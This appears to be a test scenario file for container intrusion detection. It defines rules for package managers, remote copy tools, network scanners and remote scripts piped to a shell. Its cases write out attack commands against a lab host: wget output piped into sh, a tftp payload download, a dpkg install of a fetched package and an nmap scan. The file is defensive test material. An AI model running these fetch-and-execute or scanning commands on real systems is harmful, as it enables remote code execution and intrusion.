// D21: tooling brought into a running container: package managers, remote
// copy tools, scanners, and scripts fetched and piped into a shell.
import { applet } from '../lib/check';
import { NET } from '../lib/net-plan';
import type { Scenario } from '../lib/types';

const PKG = 'Package manager launched in container';
const COPY = 'Remote file copy tool launched in container';
const PIPE = 'Remote script piped to shell in container';
const SCAN = 'Network scanner or sniffer launched in container';

export const d21: Scenario = {
  row: 'D21',
  title: 'Package managers, remote copy tools or network scanners launched inside a running container',
  rules: [PKG, COPY, PIPE, SCAN],
  mitre: 'T1105',
  category: 'execution',
  cases: [
    {
      kind: 'attack',
      name: 'a pod downloads a package and installs it with dpkg -i',
      script: `wget -q -O /tmp/tools.deb http://${NET.web}/tools.deb; dpkg -i /tmp/tools.deb`,
      expect: [{ rule: PKG, proc: applet('dpkg'), cmdline: /^dpkg -i / }],
    },
    {
      kind: 'variant',
      name: 'busybox dpkg by applet name, and rpm',
      evasion: ['busybox applet', 'another tool'],
      script: 'busybox dpkg -l > /dev/null; rpm -qa > /dev/null',
      expect: [
        { rule: PKG, proc: applet('busybox'), cmdline: /^busybox dpkg/ },
        { rule: PKG, proc: applet('rpm') },
      ],
    },
    {
      kind: 'variant',
      name: 'wget -qO- .../install.sh | sh, and sh -c "$(wget -qO- ...)"',
      evasion: ['another tool'],
      script: `sh -c 'wget -qO- http://${NET.web}/install.sh | sh'; sh -c 'sh -c "$(wget -qO- http://${NET.web}/setup.sh)"'`,
      expect: [
        { rule: PIPE, proc: applet('sh'), cmdline: /^sh -c wget -qO- \S+install\.sh \| sh/ },
        { rule: PIPE, proc: applet('sh'), cmdline: /^sh -c sh -c "\$\(wget -qO- / },
      ],
    },
    {
      kind: 'variant',
      name: 'a port scan with nmap and a tftp download',
      evasion: ['another tool'],
      script: `nmap -p 22,80,443,6443 ${NET.web} > /dev/null; tftp -g -r payload -l /tmp/p ${NET.web} 2> /dev/null`,
      expect: [
        { rule: SCAN, proc: 'nmap', tags: ['T1046', 'discovery'] },
        { rule: COPY, proc: applet('tftp') },
      ],
    },
    {
      kind: 'benign',
      name: 'a pod downloads a data file with wget and checks it',
      script: `wget -q -O /tmp/data http://${NET.web}/data && sha256sum /tmp/data > /dev/null`,
      marker: 'exec',
    },
  ],
};
